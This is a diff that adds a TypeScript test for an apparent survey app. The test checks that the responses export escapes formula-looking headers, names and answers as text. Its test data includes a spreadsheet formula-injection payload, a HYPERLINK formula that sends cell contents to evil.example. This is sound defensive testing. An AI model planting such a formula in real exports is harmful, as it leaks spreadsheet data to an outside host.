@@ -323,6 +323,31 @@ describe('answers', () => {
   });
 });
 
+describe('the responses export', () => {
+  it('writes answers and names a spreadsheet would run as formulas as text, and scores as numbers', async () => {
+    const tenant = await newTenant();
+    const { survey, wave } = await activeSurveyWithWave(tenant, {
+      questions: [
+        { id: 'recommend', type: 'nps', text: 'How likely are you to recommend us?', required: true },
+        { id: 'why', type: 'text', text: '=Why? (formula-looking header)', required: false },
+      ],
+    });
+    const contact = await customer(tenant, '@Grace');
+    const invitation = await inviteContact(tenant.ctx, wave, contact.id);
+    await recordResponse(tenant.ctx, invitation, {
+      answers: { recommend: 0, why: '=HYPERLINK("https://evil.example/?"&A1,"Click")' },
+      source: 'json',
+      channel: 'web',
+    });
+    const [header, row] = parse((await exportResponses(tenant.ctx, survey.id, {})).body) as string[][];
+    expect(header!.at(-1)).toBe("'=Why? (formula-looking header)");
+    const cell = (name: string) => row![header!.indexOf(name)];
+    expect(cell('Contact Name')).toBe("'@Grace Hopper");
+    expect(cell('NPS')).toBe('0');
+    expect(row!.at(-1)).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"Click")');
+  });
+});
+
 describe('the answer form', () => {
   const contextFor = (tenantId: TenantId) => tenantContext({ tenantId, actor: { type: 'public' } });
   const tokenOf = (url: string) => url.split('/').pop()!;
